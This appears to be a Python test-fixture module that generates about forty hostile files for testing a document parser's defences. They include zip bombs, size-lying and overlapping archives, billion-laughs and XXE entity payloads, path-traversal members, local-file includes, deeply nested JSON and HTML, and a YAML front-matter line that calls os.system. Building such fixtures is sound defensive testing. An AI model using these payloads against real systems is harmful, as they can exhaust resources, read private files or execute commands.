"""Archives that unpack to gigabytes, XML and markup that looks outside or never ends.

In every one of them, SECRET stands for the path of a file that must not be read.
"""

from __future__ import annotations

import gzip
import io
import zipfile

from tests.connectors.samples import archive

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
_CONTAINER = "urn:oasis:names:tc:opendocument:xmlns:container"


def _word(xml: str, **more: bytes | str) -> bytes:
    return archive({"word/document.xml": xml, **more})


def _overlapping(entries: int) -> bytes:
    """An archive whose directory lists one member many times under different names."""
    data = bytearray(archive({"word/document.xml": b"x" * 60_000}))
    start = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = bytes(data[start:end])
    listing = b"".join(entry.replace(b"document.xml", b"doc%05d.xml" % n) for n in range(entries))
    tail = bytearray(data[end:])
    tail[8:12] = (entries & 0xFFFF).to_bytes(2, "little") * 2
    tail[12:16] = len(listing).to_bytes(4, "little")
    return bytes(data[:start]) + listing + bytes(tail)


def _lying(data: bytes, size: int) -> bytes:
    """The same archive with another uncompressed size in its directory."""
    out = bytearray(data)
    at = out.rindex(b"PK\x01\x02")
    out[at + 24 : at + 28] = size.to_bytes(4, "little")
    return bytes(out)


def _document(body: str, before: str = "") -> str:
    return f'{before}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'


def _slide(target: str) -> bytes:
    """A presentation whose one slide is at `target`."""
    listing = '<p:sldIdLst><p:sldId r:id="r1"/></p:sldIdLst>'
    relation = f'<Relationship Id="r1" Type="x/slide" Target="{target}"/>'
    return archive(
        {
            "ppt/presentation.xml": f'<p:x xmlns:p="{_SLIDES}" xmlns:r="{_OFFICE}">{listing}</p:x>',
            "ppt/_rels/presentation.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{relation}</Relationships>',
        }
    )


def _zeros(megabytes: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file, file.open("word/document.xml", "w") as member:
        for _ in range(megabytes):
            member.write(bytes(1 << 20))
    return buffer.getvalue()


def _anchors(levels: int) -> bytes:
    """Front matter whose aliases multiply by nine at each level."""
    lines = ["a0: &a0 [x]"] + [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, levels)]
    return ("---\n" + "\n".join(lines) + "\n---\ntext").encode()


def archives() -> dict[str, bytes]:
    """Forty of them."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    laughs = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l11;</a>'
    paragraphs = 50_000
    book = f'<c xmlns="{_CONTAINER}"><rootfiles><rootfile full-path="../../SECRET"/></rootfiles></c>'
    part = b"--b\nContent-Type: multipart/mixed; boundary=b\n\n"
    opened, closed = "<w:p>" * paragraphs, "</w:p>" * paragraphs
    swollen = f'<!DOCTYPE a [<!ENTITY b "{"x" * 50_000}">]><a>{"&b;" * 5000}</a>'
    files = {
        "zeros.docx": _zeros(100),
        "ratio.docx": _word("<a>" + " " * 5_000_000 + "</a>"),
        "entries.docx": archive({f"{n}.xml": "" for n in range(12_000)}),
        "overlap.docx": _overlapping(5000),
        "lying-small.docx": _lying(_word("<a>" + "word " * 200_000 + "</a>"), 10),
        "lying-large.docx": _lying(_word("<a/>"), 4_000_000_000),
        "nested.docx": archive({"word/document.xml": archive({"word/document.xml": _zeros(100)})}),
        "laughs.docx": _word(laughs),
        "quadratic.docx": _word(swollen),
        "deep-open.docx": _word(_document(opened)),
        "deep.docx": _word(_document(opened + closed)),
        "attributes.docx": _word("<a " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>"),
        "long-attribute.docx": _word(f'<a b="{"x" * 3_000_000}"/>'),
        "slip.docx": archive({"../../escaped.txt": "x", "word/document.xml": "<a/>"}),
        "absolute.docx": archive({"/escaped.txt": "x", "word/document.xml": "<a/>"}),
        "file-entity.docx": _word(_document("&e;", '<!DOCTYPE a [<!ENTITY e SYSTEM "file://SECRET">]>')),
        "far-entity.docx": _word(_document("&e;", '<!DOCTYPE a [<!ENTITY e SYSTEM "http://192.0.2.1/x">]>')),
        "parameter-entity.docx": _word(_document("x", '<!DOCTYPE a [<!ENTITY % e SYSTEM "file://SECRET"> %e;]>')),
        "far-doctype.docx": _word(_document("x", '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">')),
        "include.docx": _word('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://SECRET"/></a>'),
        "slip.pptx": _slide("../../../SECRET"),
        "far.pptx": _slide("http://192.0.2.1/x"),
        "slip.epub": archive({"META-INF/container.xml": book}),
        "laughs.epub": archive({"META-INF/container.xml": laughs}),
        "laughs.xlsx": archive({"[Content_Types].xml": laughs, "xl/workbook.xml": laughs}),
        "zeros.txt.gz": gzip.compress(bytes(80_000_000), 9),
        "twice.txt.gz": gzip.compress(gzip.compress(bytes(80_000_000))),
        "deep.json": b"[" * 200_000,
        "deep-closed.json": b"[" * 100_000 + b"]" * 100_000,
        "deep-objects.json": b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
        "number.json": b"1" * 250_000,
        "deep.html": b"<div>" * 50_000,
        "tables.html": b"<table><tr><td>" * 17_000,
        "outside.html": b'<iframe src="file://SECRET"></iframe><object data="SECRET"></object>text',
        "include.rst": b".. include:: SECRET\n\n.. raw:: html\n   :file: SECRET\n\ntext\n",
        "anchors.md": _anchors(9),
        "python.md": b"---\ntitle: !!python/object/apply:os.system ['touch SECRET']\n---\ntext",
        "quotes.md": b">" * 50_000 + b" text",
        "wide.csv": b",".join([b"x"] * 60_000) + b"\n" + b",".join([b"y"] * 60_000),
        "parts.eml": b"Content-Type: multipart/mixed; boundary=b\n\n" + part * 3000,
    }
    return files
